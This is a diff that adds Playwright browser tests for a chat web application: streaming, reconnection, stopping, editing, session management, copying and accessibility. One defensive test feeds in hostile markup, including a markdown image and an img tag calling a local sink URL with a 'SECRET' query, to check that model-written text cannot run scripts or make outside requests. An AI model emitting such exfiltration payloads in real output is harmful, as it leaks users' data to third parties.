@@ -1,0 +1,296 @@
+"""Chat as a person uses it, in Chromium, with the echo provider."""
+
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from accounts.models import User
+from chat.models import ChatSession, Message
+from chat.tests.test_rendering import HOSTILE
+from providers.models import ProviderModel
+
+SignIn = Callable[[User], Any]
+pytestmark = pytest.mark.browser
+SINK = "http://127.0.0.1:9/"
+
+
+def ask(page: Any, text: str) -> None:
+    page.get_by_label("Message", exact=True).fill(text)
+    page.keyboard.press("Enter")
+
+
+def start(page: Any, text: str) -> None:
+    page.goto("/chat/")
+    ask(page, text)
+    page.wait_for_url(re.compile(r"/chat/[0-9a-f-]{36}/"))
+
+
+def answer(page: Any) -> Any:
+    return page.locator(".message-assistant").last
+
+
+def wait_until_done(page: Any, answers: int = 1) -> None:
+    page.wait_for_function(
+        """(n) => document.querySelectorAll('.message-assistant .figures').length >= n
+            && !document.querySelector('[data-answering]')""",
+        arg=answers,
+    )
+
+
+def test_a_chat(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    start(page, "Hello **there**\n\n```python\nprint('x')\n```")
+    wait_until_done(page)
+    assert answer(page).locator("strong").inner_text() == "there"
+    assert answer(page).locator(".code-block .nb").inner_text() == "print"
+    assert "tokens/s" in answer(page).locator(".figures").inner_text()
+    ask(page, "and again")
+    wait_until_done(page, 2)
+    assert page.get_by_label("Message", exact=True).input_value() == ""
+    assert page.locator(".session-link[aria-current]").inner_text() == "Hello **there**"
+
+
+def test_enter_does_not_send_while_composing(
+    echo: ProviderModel, alice: User, sign_in: SignIn
+) -> None:
+    page = sign_in(alice)
+    page.goto("/chat/")
+    box = page.get_by_label("Message", exact=True)
+    box.fill("ni hao")
+    box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True})
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("second line")
+    assert box.input_value() == "ni hao\nsecond line"
+    assert not ChatSession.objects.exists()
+
+
+def test_reloading_goes_on_where_it_is(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    start(page, "/long 60")
+    answer(page).get_by_text("Sentence 5 of 60.").wait_for()
+    page.reload()
+    assert "Sentence 5 of 60." in answer(page).inner_text()
+    wait_until_done(page)
+    text = answer(page).locator(".answer").inner_text()
+    sentences = re.findall(r"Sentence (\d+) of 60\.", text)
+    assert sentences == [str(n) for n in range(1, 61)]
+
+
+def test_a_lost_connection_loses_nothing(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    sockets: list[Any] = []
+
+    def through(socket: Any) -> None:
+        sockets.append(socket)
+        socket.connect_to_server()
+
+    page.route_web_socket(re.compile("/ws/chat/"), through)
+    start(page, "/long 60")
+    answer(page).get_by_text("Sentence 5 of 60.").wait_for()
+    sockets[0].close(code=1012)
+    wait_until_done(page)
+    sentences = re.findall(r"Sentence (\d+) of 60\.", answer(page).locator(".answer").inner_text())
+    assert sentences == [str(n) for n in range(1, 61)] and len(sockets) > 1
+
+
+def test_stopping_from_a_second_tab(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    start(page, "/long 900")
+    second = page.context.new_page()
+    second.goto(page.url)
+    second.get_by_text("Sentence 3 of 900.").wait_for()
+    second.get_by_role("button", name="Stop").click()
+    page.get_by_text("You stopped this answer.").wait_for(timeout=5000)
+    second.get_by_text("You stopped this answer.").wait_for()
+    page.get_by_role("button", name="Continue").click()
+    # The echo of the request to go on, which may be over before anybody looks.
+    page.locator(".answer", has_text="Continue your last answer").wait_for()
+    wait_until_done(page)
+    assert Message.objects.get(role="assistant").content.startswith("Sentence 1 of 900.")
+
+
+def test_thoughts_fold_when_the_answer_begins(
+    echo: ProviderModel, alice: User, sign_in: SignIn
+) -> None:
+    page = sign_in(alice)
+    start(page, "/think /long 30")
+    thoughts = page.locator("[data-thoughts]")
+    thoughts.get_by_text("Thought for").wait_for()
+    assert not thoughts.evaluate("element => element.open")
+    thoughts.locator("summary").click()
+    wait_until_done(page)
+    assert thoughts.evaluate("element => element.open")
+    assert "The message has 8 characters" in re.sub(r"\s+", " ", thoughts.inner_text())
+
+
+def test_an_error_says_what_to_do_and_can_be_retried(
+    echo: ProviderModel, alice: User, sign_in: SignIn
+) -> None:
+    page = sign_in(alice)
+    start(page, "/error")
+    page.get_by_text("The provider is busy").wait_for()
+    page.get_by_role("button", name="Try again").click()
+    page.get_by_text("2/2").wait_for()
+    page.get_by_role("button", name="Earlier version").click()
+    page.get_by_text("1/2").wait_for()
+
+
+def test_changing_a_question(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    start(page, "first words")
+    wait_until_done(page)
+    question = page.locator(".message-user").last
+    question.hover()
+    question.locator(".edit > summary").click()
+    question.get_by_label("Edit your message").fill("other words")
+    question.get_by_role("button", name="Ask this instead").click()
+    page.locator(".question", has_text="other words").wait_for()
+    wait_until_done(page)
+    assert answer(page).locator(".answer").inner_text() == "other words"
+    page.locator(".message-user").get_by_label("Earlier version").click()
+    page.locator(".answer", has_text="first words").wait_for()
+
+
+def test_a_refused_message_stays_in_the_composer(
+    echo: ProviderModel, alice: User, sign_in: SignIn
+) -> None:
+    page = sign_in(alice)
+    start(page, "one")
+    wait_until_done(page)
+    ProviderModel.objects.update(is_enabled=False)
+    ask(page, "not lost")
+    page.get_by_text("Choose a model that is available.").wait_for()
+    assert page.get_by_label("Message", exact=True).input_value() == "not lost"
+
+
+def test_a_reader_who_scrolled_up_is_left_alone(
+    echo: ProviderModel, alice: User, sign_in: SignIn
+) -> None:
+    page = sign_in(alice)
+    start(page, "/long 120")
+    answer(page).get_by_text("Sentence 40 of 120.").wait_for()
+    page.locator("[data-scroll]").hover()
+    page.mouse.wheel(0, -400)
+    page.get_by_role("button", name="To the newest text").wait_for()
+    place = page.locator("[data-scroll]").evaluate("e => e.scrollTop")
+    wait_until_done(page)
+    assert page.locator("[data-scroll]").evaluate("e => e.scrollTop") == place
+    page.get_by_role("button", name="To the newest text").click()
+    page.wait_for_function(
+        "(e => e.scrollHeight - e.scrollTop - e.clientHeight < 5)"
+        "(document.querySelector('[data-scroll]'))"
+    )
+
+
+def test_managing_sessions(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    start(page, "to be renamed")
+    wait_until_done(page)
+    page.locator(".session-row").hover()
+    page.locator(".session-row summary").click()
+    page.locator(".session-row").get_by_role("button", name="Rename").click()
+    page.get_by_label("Title").fill("新名称")
+    page.get_by_role("dialog").get_by_role("button", name="Rename").click()
+    page.locator("h1", has_text="新名称").wait_for()
+    page.get_by_label("Search chats").fill("no such words")
+    page.get_by_text("No chat contains this.").wait_for()
+    page.get_by_label("Search chats").fill("renamed")
+    page.locator(".session-link", has_text="新名称").wait_for()
+    page.get_by_label("Actions", exact=True).click()
+    places = [page.url]
+
+    def answer_late(route: Any) -> None:
+        """The page's socket learns of it before the answer is there, and must not go elsewhere."""
+        redirect = route.fetch(max_redirects=0)
+        page.wait_for_timeout(1000)
+        places.append(page.url)
+        route.fulfill(response=redirect)
+
+    page.route("**/delete/", answer_late)
+    page.locator(".conversation-head").get_by_role("button", name="Delete").click()
+    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
+    page.get_by_text("The chat is deleted.").wait_for()
+    assert len(places) == 2 and places[0] == places[1]
+    assert not ChatSession.objects.exists()
+
+
+def test_copying(echo: ProviderModel, alice: User, sign_in: SignIn) -> None:
+    page = sign_in(alice)
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    start(page, "Some **bold**\n\n```sh\nls -l\n```")
+    wait_until_done(page)
+    answer(page).locator("[data-copy-code]").click()
+    page.get_by_text("Copied").first.wait_for()
+    assert page.evaluate("navigator.clipboard.readText()") == "ls -l\n"
+    answer(page).locator("[data-copy-message]").click()
+    page.wait_for_function(
+        "navigator.clipboard.readText().then(t => t.startsWith('Some **bold**'))"
+    )
+
+
+def test_what_a_model_writes_cannot_act(session: ChatSession, alice: User, sign_in: SignIn) -> None:
+    """While it streams and when it is rendered: no script, no request elsewhere, no hx-*."""
+    page = sign_in(alice)
+    foreign: list[str] = []
+    page.on(
+        "request",
+        lambda request: (
+            foreign.append(request.url) if "//sink" in request.url or SINK in request.url else None
+        ),
+    )
+    page.on("dialog", lambda dialog: foreign.append(dialog.message))
+    page.goto(f"/chat/{session.pk}/")
+    text = "\n\n".join(HOSTILE) + f"\n\n![x]({SINK}?q=SECRET) <img src={SINK}>"
+    ask(page, text)
+    wait_until_done(page)
+    page.reload()
+    page.wait_for_timeout(300)
+    found = page.evaluate(
+        """() => [...document.querySelectorAll('.answer *')].flatMap((element) =>
+            element.getAttributeNames().map((name) => [element.localName, name,
+                element.getAttribute(name)]))"""
+    )
+    attributes = {name for _tag, name, _value in found}
+    own_button = {"type", "data-copy-code"}
+    assert attributes <= {"href", "rel", "class", "align", "start", "title"} | own_button
+    for _tag, name, value in found:
+        assert name != "href" or re.match("https?://|mailto:", value)
+    assert page.locator(".answer :is(script, img, iframe, form, svg, style, link)").count() == 0
+    assert foreign == []
+    kept = page.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
+    assert kept == ["htmx-current-path-for-history"]
+
+
+def test_reading_and_writing_without_scripts(
+    echo: ProviderModel, alice: User, chromium: Any, live_url: str, sign_in: SignIn
+) -> None:
+    cookies = sign_in(alice).context.cookies()
+    context = chromium.new_context(base_url=live_url, java_script_enabled=False)
+    context.add_cookies(cookies)
+    page = context.new_page()
+    page.goto("/chat/")
+    page.get_by_label("Message", exact=True).fill("plain **form**")
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_url(re.compile(r"/chat/[0-9a-f-]{36}/"))
+    for _attempt in range(20):
+        page.reload()
+        if page.locator(".figures").count():
+            break
+    assert page.locator(".answer strong").inner_text() == "form"
+    context.close()
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_it_is_accessible(session: ChatSession, alice: User, sign_in: SignIn, theme: str) -> None:
+    from axe_playwright_python.sync_playwright import Axe
+
+    User.objects.filter(pk=alice.pk).update(theme=theme)
+    page = sign_in(alice)
+    page.goto(f"/chat/{session.pk}/")
+    ask(page, "/think Hello\n\n```python\ndef f(x): return 'text', 1  # why\n```\n\n- [x] done")
+    wait_until_done(page)
+    page.get_by_role("button", name="Settings").click()
+    violations = Axe().run(page).response["violations"]
+    assert [(v["id"], [n["html"] for n in v["nodes"]]) for v in violations] == []
